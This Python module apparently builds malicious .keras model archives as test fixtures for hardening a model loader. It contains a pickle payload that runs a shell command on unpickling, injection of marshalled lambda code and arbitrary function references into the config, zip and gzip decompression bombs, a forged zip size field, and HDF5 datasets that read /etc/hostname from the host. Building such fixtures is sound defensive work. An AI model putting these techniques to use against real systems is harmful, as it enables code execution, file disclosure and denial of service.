"""Makes malicious `.keras` files from a valid one."""

import base64
import io
import json
import marshal
import pickle
import struct
import zipfile

import h5py
import numpy as np

CONFIG, WEIGHTS, METADATA = "config.json", "model.weights.h5", "metadata.json"
GENERATOR_KERNEL = "generator/layers/dense/vars/0"


def members(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(contents, compression=zipfile.ZIP_STORED, prepare=None):
    """The bytes of an archive; `prepare` may change each member's description."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in contents.items() if isinstance(contents, dict) else contents:
            information = zipfile.ZipInfo(name)
            information.compress_type = compression
            if prepare is not None:
                prepare(information)
            archive.writestr(information, content)
    return file.getvalue()


def with_config(contents, change):
    """The archive with a changed configuration; `change` edits it, or returns another."""
    config = json.loads(contents[CONFIG])
    config = change(config) or config
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    return packed({**contents, CONFIG: text})


def with_layer(contents, entry):
    """The archive with another object instead of the generator's first dense layer."""

    def change(config):
        layers = config["config"]["generator"]["config"]["layers"]
        place = next(index for index, layer in enumerate(layers) if layer["class_name"] == "Dense")
        old = layers[place]
        layers[place] = {**entry, "name": old["name"], "inbound_nodes": old["inbound_nodes"]}

    return with_config(contents, change)


def with_layers(contents, **values):
    """The archive with values in the configuration of every dense layer of the generator."""

    def change(config):
        for layer in config["config"]["generator"]["config"]["layers"]:
            if layer["class_name"] == "Dense":
                layer["config"].update(values)
                layer.pop("build_config", None)

    return with_config(contents, change)


def with_argument(contents, **values):
    """The archive with other arguments of the game's constructor."""
    return with_config(contents, lambda config: config["config"].update(values))


def with_weights(contents, change):
    """The archive with changed weights; `change` takes the open HDF5 file."""
    file = io.BytesIO(contents[WEIGHTS])
    with h5py.File(file, "r+") as weights:
        change(weights)
    return packed({**contents, WEIGHTS: file.getvalue()})


def replaced(make):
    """A change of the weights: one kernel is replaced by another object, made by `make(group, name)`."""

    def change(weights):
        group, _, name = GENERATOR_KERNEL.rpartition("/")
        del weights[GENERATOR_KERNEL]
        make(weights[group], name)

    return change


def function(module, name, **more):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name, **more}


def layer(module, class_name, /, **config):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def marshalled(source):
    """Python code as Keras keeps that of lambdas."""
    code = base64.b64encode(marshal.dumps(compile(source, "lambda", "eval"))).decode()
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        import os

        return os.system, ("touch owned",)


def pickled():
    return pickle.dumps(Payload())


def bomb_of_zeros(contents):
    return packed({**contents, METADATA: bytes(20 * 2**20)}, zipfile.ZIP_DEFLATED)


def overstated(archive, name, size):
    """The archive whose directory claims another size for a member."""
    data = bytearray(archive)
    entry = data.index(b"PK\x01\x02", data.rindex(name.encode(), 0, data.rindex(b"PK\x05\x06")) - 46)
    data[entry + 20 : entry + 28] = struct.pack("<II", size, size)
    return bytes(data)


def external_storage(group, name):
    group.create_dataset(name, (3, 4), "f4", external=[("/etc/hostname", 0, h5py.h5f.UNLIMITED)])


def virtual(group, name):
    layout = h5py.VirtualLayout((3, 4), "f4")
    layout[:] = h5py.VirtualSource("/etc/hostname", "weights", (3, 4))
    group.create_virtual_dataset(name, layout)


def gzip_bomb(group, name):
    group.create_dataset(name, (50_000, 1000), "f4", chunks=(50_000, 1000), compression="gzip", fillvalue=0)


def array(*shape, kind="f4"):
    """A maker of a dataset of zeros."""
    return lambda group, name: group.create_dataset(name, data=np.zeros(shape, kind))
